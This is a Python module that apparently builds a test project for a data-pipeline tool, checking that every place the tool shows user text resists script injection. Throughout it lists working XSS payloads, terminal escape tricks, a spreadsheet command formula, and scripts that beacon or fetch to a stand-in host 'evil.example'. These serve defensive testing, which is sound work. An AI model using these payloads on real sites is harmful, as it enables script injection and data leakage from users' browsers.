"""A project whose author wants to run a script in the page of whoever looks at it.

Each payload that runs changes a marker, opens a dialog, leads the page elsewhere or asks a foreign
host for something. They stand wherever somebody else's text is shown.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

FOREIGN = "evil.example"
TAKE = "top.__marker='taken'"

SCRIPTS = [
    f"<script>{TAKE}</script>",
    f"</script><script>{TAKE}</script>",
    f'<img src=x onerror="{TAKE}">',
    f"<img src=x onerror={TAKE}//",
    f'"><svg onload="{TAKE}">',
    f"<svg><script>{TAKE}</script></svg>",
    f'<svg><animate onbegin="{TAKE}" attributeName=x dur=1s>',
    f'\'"><details open ontoggle="{TAKE}">',
    f'<iframe srcdoc="<script>{TAKE}</script>"></iframe>',
    f'<iframe src="javascript:{TAKE}"></iframe>',
    f'<body onload="{TAKE}">',
    f'<input autofocus onfocus="{TAKE}">',
    f'<video><source onerror="{TAKE}"></video>',
    f'<marquee onstart="{TAKE}">',
    f'<math><mtext></form><form><mglyph><style></math><img src=x onerror="{TAKE}">',
    f'<noscript><p title="</noscript><img src=x onerror={TAKE}>">',
    f'<template><img src=x onerror="{TAKE}"></template>',
    f"<img src=`x` onerror=`{TAKE}`>",
    f'<a href="javascript:{TAKE}">here</a>',
    f"javascript:{TAKE}",
    f"[click](javascript:{TAKE})",
    f'![x](x" onerror="{TAKE})',
    f"data:text/html,<script>{TAKE}</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src=https://{FOREIGN}/pixel.png>",
    f"<link rel=stylesheet href=https://{FOREIGN}/x.css>",
    f"<style>@import url(https://{FOREIGN}/x.css);body{{background:url(//{FOREIGN}/x)}}</style>",
    f'<meta http-equiv=refresh content="0;url=https://{FOREIGN}/">',
    f"<base href=https://{FOREIGN}/>",
    f"<form action=https://{FOREIGN}/><button autofocus>",
    f"<object data=https://{FOREIGN}/x.swf></object>",
    f"<embed src=https://{FOREIGN}/x>",
    f"<script src=https://{FOREIGN}/x.js></script>",
    f'<img src=x style="background:url(https://{FOREIGN}/x)">',
    f"{{{{constructor.constructor('{TAKE}')()}}}}",
    f"${{{TAKE}}}",
    f"`-{TAKE}-`",
    "\u202e<script>\u2066evil\u2069",
    f"\x1b]8;;javascript:{TAKE}\x07click\x1b]8;;\x07",
    f"\x1b]8;;https://{FOREIGN}/\x07click\x1b]8;;\x07\x1b[31mred",
    f"\x1b]0;{TAKE}\x07\x1b[2J\x1b[1;1H",
    "=cmd|'/c calc'!A1",
    "__proto__",
    "constructor",
    f"%3Cscript%3E{TAKE}%3C/script%3E",
    f"&lt;script&gt;{TAKE}&lt;/script&gt;",
    f"\\u003cscript\\u003e{TAKE}",
    f"\uff1cscript\uff1e{TAKE}",
    f"<\u0000script>{TAKE}</script>",
    f"<scr\nipt>{TAKE}</scr\nipt>",
]
"""For every place that shows text."""

SANDBOXED = [
    f"<script>{TAKE}</script>",
    "<script>parent.document.title='taken'; parent.__marker='taken'</script>",
    "<script>alert(1); confirm(1); prompt(1); print()</script>",
    f"<script>top.location='https://{FOREIGN}/'</script>",
    f"<script>open('https://{FOREIGN}/')</script>",
    f"<a href=https://{FOREIGN}/ target=_top id=a>x</a><script>a.click()</script>",
    f"<form action=https://{FOREIGN}/ target=_top id=f></form><script>f.submit()</script>",
    f"<script>fetch('https://{FOREIGN}/x').catch(()=>0); fetch('/api/v1/status').catch(()=>0)</script>",
    f"<script>navigator.sendBeacon('https://{FOREIGN}/x'); new Image().src='//{FOREIGN}/x'</script>",
    f"<script>try {{ new WebSocket('ws://{FOREIGN}/') }} catch {{}}</script>",
    f"<script>try {{ new EventSource('https://{FOREIGN}/') }} catch {{}}</script>",
    f"<script>try {{ import('https://{FOREIGN}/x.js').catch(()=>0) }} catch {{}}</script>",
    f"<link rel=prefetch href=https://{FOREIGN}/x><link rel=preconnect href=https://{FOREIGN}>",
    f"<img src=https://{FOREIGN}/x><iframe src=https://{FOREIGN}/></iframe>",
    (
        f"<style>@import url(https://{FOREIGN}/x.css); @font-face{{font-family:x;src:url(//{FOREIGN}/x)}}"
        "body{font-family:x}</style>x"
    ),
    f'<meta http-equiv=refresh content="0;url=https://{FOREIGN}/">',
    "<script>parent.postMessage({type:'command',op:'delete-pipeline'},'*')</script>",
    (
        "<script>for (const f of [()=>localStorage.x=1,()=>document.cookie='x=1',()=>indexedDB.open('x')])"
        " try { f() } catch {}</script>"
    ),
    "<script>history.pushState(0,'','/'); location.hash='x'</script>",
]
"""For displays, which may run scripts in frames of their own."""

SVGS = [
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{TAKE}\"><script>{TAKE}</script></svg>",
    (
        f"<svg xmlns='http://www.w3.org/2000/svg'><image href='https://{FOREIGN}/x'/>"
        f"<foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='https://{FOREIGN}/y'/></foreignObject></svg>"
    ),
    (
        f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
        f"<use xlink:href='https://{FOREIGN}/x#a'/><a xlink:href=\"javascript:{TAKE}\"><text y='9'>x</text></a></svg>"
    ),
]


@dataclass
class Place:
    """A block that puts payloads somewhere."""

    name: str
    source: str
    kind: str = "loader"
    upstream: list[str] = field(default_factory=list)


_HEAD = "from headrace import {kind}\nfrom payloads import *\n\n\n"
PLACES = [
    Place("cells", "return pd.DataFrame({'text': SCRIPTS, 'nested': [[s] for s in SCRIPTS]})"),
    Place(
        "long_cells",
        "rows = [[s * 3000, s.encode() * 3000, [s] * 3000, json.dumps({s: [s] * 900})] for s in SCRIPTS]\n"
        "return pd.DataFrame(rows, columns=['text', 'bytes', 'nested', 'json'])",
    ),
    Place("mixed", "return pd.DataFrame({'mixed': [{s: s} for s in SCRIPTS] + [1]})"),
    Place("categories", "return pd.DataFrame({'x': pd.Categorical(SCRIPTS)})"),
    Place("names", "return pd.DataFrame([range(len(SCRIPTS))], columns=SCRIPTS)"),
    Place(
        "levels",
        "return pd.DataFrame({'x': range(len(SCRIPTS))}, index=pd.Index(SCRIPTS, name=SCRIPTS[0]))",
    ),
    Place("structs", "return pa.table({'x': pa.array([{s: s for s in SCRIPTS}])})"),
    Place("text", "return '\\n'.join(SCRIPTS)"),
    Place("values", "return {s: [s] for s in SCRIPTS}"),
    Place("logs", "[print(s) for s in SCRIPTS]\nprint(*SCRIPTS, sep='\\r')\nreturn 1"),
    Place(
        "fails",
        "hostile = SCRIPTS[2]\n"
        "code = compile('def f(x): raise ValueError(x)\\nf(x)', SCRIPTS[2], 'exec')\n"
        "exec(code, {'x': '\\n'.join(SCRIPTS)})",
    ),
    Place("error", "raise type('E', (Exception,), {'__qualname__': SCRIPTS[2]})(SCRIPTS[0])"),
    Place("html_shown", "[display(HTML(s)) for s in SANDBOXED]\nreturn 1"),
    Place("svg_shown", "[display(SVG(s)) for s in SVGS]\nreturn 1"),
    Place("markdown_shown", "[display(Markdown(s)) for s in SCRIPTS]\nreturn 1"),
    Place("plain_shown", "[display(Plain(s)) for s in SCRIPTS]\nreturn 1"),
    Place("latex_shown", "[display(Latex(s)) for s in SCRIPTS[:4]]\nreturn 1"),
    Place("json_shown", "display(JSON({s: s for s in SCRIPTS}))\nreturn 1"),
    Place(
        "progress",
        "from headrace import Context\nContext\nreturn Plain(SCRIPTS[2])",
    ),
]

_PAYLOADS = """
import json
from pathlib import Path

import pandas as pd
import pyarrow as pa
from IPython.display import HTML, JSON, SVG, Latex, Markdown, display

SCRIPTS, SANDBOXED, SVGS = json.loads(Path("payloads.json").read_text())


class Plain:
    def __init__(self, text):
        self.text = text

    def __repr__(self):
        return self.text
"""

_CHECKED = """
from headrace import check, transformer
from payloads import *


@transformer
def checked(cells):
    return len(cells)


@check(severity="warn")
def hostile(checked):
    raise AssertionError("\\n".join(SCRIPTS))
"""


def _led_to(text: str, foreign: str) -> str:
    """Name a host that is there, and can read what it is asked."""
    return text.replace(f"https://{FOREIGN}", f"http://{foreign}").replace(FOREIGN, foreign)


def make(root: Path, foreign: str) -> None:
    """Write the project: one pipeline with a block for each place, and files of hostile names."""
    folder = root / "pipelines" / "hostile"
    folder.mkdir(parents=True)
    payloads = json.dumps([SCRIPTS, SANDBOXED, SVGS])
    (root / "payloads.json").write_text(_led_to(payloads, foreign))
    (root / "payloads.py").write_text(_PAYLOADS)
    blocks: list[dict[str, object]] = []
    for place in PLACES:
        body = "\n".join(f"    {line}" for line in place.source.split("\n"))
        source = f"{_HEAD.format(kind=place.kind)}@{place.kind}\ndef {place.name}():\n{body}\n"
        (folder / f"{place.name}.py").write_text(source)
        blocks.append({"name": place.name, "kind": place.kind, "file": f"{place.name}.py"})
    (folder / "checked.py").write_text(_CHECKED)
    blocks.append(
        {"name": "checked", "kind": "transformer", "file": "checked.py", "upstream": ["cells"]}
    )
    prose = "\n\n".join([*SCRIPTS, *SANDBOXED, *SVGS])
    (folder / "prose.md").write_text(_led_to(prose, foreign))
    blocks.append({"name": "prose", "kind": "markdown", "file": "prose.md"})
    described = {
        "title": SCRIPTS[2],
        "description": " ".join(SCRIPTS),
        "parameters": {
            f"p{number}": {"type": "string", "default": script, "description": script}
            for number, script in enumerate(SCRIPTS)
        }
        | {"chosen": {"type": "string", "default": SCRIPTS[0], "choices": SCRIPTS}},
        "triggers": [
            {"name": script, "every": "1h", "active": False}
            for script in SCRIPTS
            if script.isprintable() and len(script) <= 100
        ],
        "blocks": blocks,
    }
    # Every text of JSON is one of YAML.
    (folder / "pipeline.yaml").write_text(_led_to(json.dumps(described), foreign))
    for script in SCRIPTS:
        name = script.replace("/", "\u2215")[:200]
        if "\0" in name:
            continue
        odd = root / "pipelines" / name
        odd.mkdir()
        (odd / "pipeline.yaml").write_text(f"title: {json.dumps(script)}\nblocks: []\n")
        shared = root / "blocks" / "loaders"
        shared.mkdir(parents=True, exist_ok=True)
        (shared / f"{name}.py").write_text("from headrace import loader\n")
    wrong = root / "pipelines" / "wrong"
    wrong.mkdir()
    (wrong / "broken.py").write_text("".join(f"# {s!r}\n" for s in SCRIPTS) + "def (:\n")
    block = {"name": "broken", "kind": "loader", "file": "broken.py", SCRIPTS[2]: SCRIPTS[2]}
    missing = {"name": "missing", "kind": "loader", "file": SCRIPTS[2], "upstream": [SCRIPTS[2]]}
    (wrong / "pipeline.yaml").write_text(json.dumps({"blocks": [block, missing]}))
    plain = root / "pipelines" / "plain"
    plain.mkdir()
    (plain / "pipeline.yaml").write_text(
        json.dumps(
            {
                "title": "Plain",
                "blocks": [{"name": "one", "kind": "loader", "file": "one.py"}],
            }
        )
    )
    (plain / "one.py").write_text(
        "from headrace import loader\n\n\n@loader\ndef one():\n    return 'still here'\n"
    )
